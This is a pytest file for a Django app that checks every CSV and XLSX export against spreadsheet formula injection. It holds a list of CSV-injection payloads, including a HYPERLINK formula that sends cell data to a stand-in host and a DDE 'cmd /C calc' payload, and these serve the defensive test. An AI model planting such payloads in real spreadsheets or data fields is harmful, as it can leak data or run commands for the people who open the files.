"""Every CSV and XLSX export keeps text that would start a spreadsheet
formula as text (one helper, lib.spreadsheet.safe_cell, in every writer)."""

from __future__ import annotations

import csv
import datetime
import io
from collections.abc import Callable

import openpyxl
import pytest
from django.test import Client

from ortakmasa.cooperation.models import Cooperation
from ortakmasa.lib.spreadsheet import FORMULA_STARTS, safe_cell
from ortakmasa.meetings.models import Meeting, MeetingKind, ReviewStatus
from ortakmasa.plans.models import Indicator
from ortakmasa.plans.sample import make_plan
from ortakmasa.proposals import services
from ortakmasa.proposals.models import Proposal
from ortakmasa.registry.models import Institution, InstitutionKind
from tests.conftest import BASAKSEHIR, IBB
from tests.cooperation.helpers import make_cooperation, make_project

pytestmark = pytest.mark.django_db

PAYLOADS = [
    '=HYPERLINK("http://example.invalid/?d="&A1,"tıkla")',
    "+1",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
]


def test_safe_cell() -> None:
    for payload in PAYLOADS:
        assert safe_cell(payload) == "'" + payload
    assert safe_cell("Kadıköy") == "Kadıköy"
    assert safe_cell(-2) == -2 and safe_cell(1.5) == 1.5 and safe_cell(None) is None


@pytest.fixture
def laden() -> None:
    """Records whose texts carry every payload, in every exported model."""
    ibb = Institution.objects.get(reference_key=IBB)
    basaksehir = Institution.objects.get(reference_key=BASAKSEHIR)
    evil = Institution.objects.create(name=PAYLOADS[0], kind=InstitutionKind.NGO)
    for i, payload in enumerate(PAYLOADS):
        meeting = Meeting.objects.create(
            kind=MeetingKind.VISIT,
            title=payload,
            place=payload,
            host=ibb,
            date=datetime.date(2024, 1, 1 + i),
            review_status=ReviewStatus.CONFIRMED,
        )
        meeting.guests.add(evil)
        coop = make_cooperation([ibb, evil], ["transport"], title=payload)
        Cooperation.objects.filter(pk=coop.pk).update(is_public=True)
        project = make_project([ibb, evil], ["transport"])
        project.title = project.programme = payload
        project.acronym = payload[:40]  # the column's length (PostgreSQL enforces it)
        project.save()
        services.create_proposal(
            Proposal(institution=basaksehir, title=payload, text=payload, neighbourhood=payload),
            None,
            [],
        )
    plan = make_plan(ibb, goals=1, objectives=1, indicators=len(PAYLOADS))
    indicators = Indicator.objects.filter(objective__goal__plan=plan)
    for indicator, payload in zip(indicators, PAYLOADS, strict=True):
        indicator.name = indicator.unit = indicator.source = payload
        indicator.save()


def assert_no_formula_csv(content: bytes) -> int:
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
    cells = [cell for row in rows for cell in row]
    assert not [c for c in cells if c.lstrip(" ").startswith(FORMULA_STARTS)]
    return sum(1 for c in cells if c.startswith("'") and c[1:] in PAYLOADS)


def assert_no_formula_xlsx(content: bytes) -> int:
    book = openpyxl.load_workbook(io.BytesIO(content))
    found = 0
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert not cell.value.lstrip(" ").startswith(FORMULA_STARTS), cell.value
                    found += cell.value.startswith("'") and cell.value[1:] in PAYLOADS
    return found


def test_every_export_keeps_formulas_as_text(
    laden: None, client_for: Callable[[str], Client]
) -> None:
    from ortakmasa.plans.models import Plan

    client = client_for("admin")
    plan = Plan.objects.latest("pk")
    exports = {
        "/meetings/export.csv": assert_no_formula_csv,
        "/meetings/export.xlsx": assert_no_formula_xlsx,
        "/cooperation/export.csv": assert_no_formula_csv,
        "/cooperation/export.xlsx": assert_no_formula_xlsx,
        "/cooperation/projects/export.csv": assert_no_formula_csv,
        "/cooperation/projects/export.xlsx": assert_no_formula_xlsx,
        "/cooperation/network.csv": assert_no_formula_csv,
        "/proposals/export.csv": assert_no_formula_csv,
        "/proposals/export.xlsx": assert_no_formula_xlsx,
        f"/plans/{plan.pk}/export.xlsx": assert_no_formula_xlsx,
    }
    for url, check in exports.items():
        response = client.get(url)
        assert response.status_code == 200, url
        content = b"".join(response.streaming_content) if response.streaming else response.content
        # Each export carried the payloads and kept them as text.
        assert check(content) >= 1, url
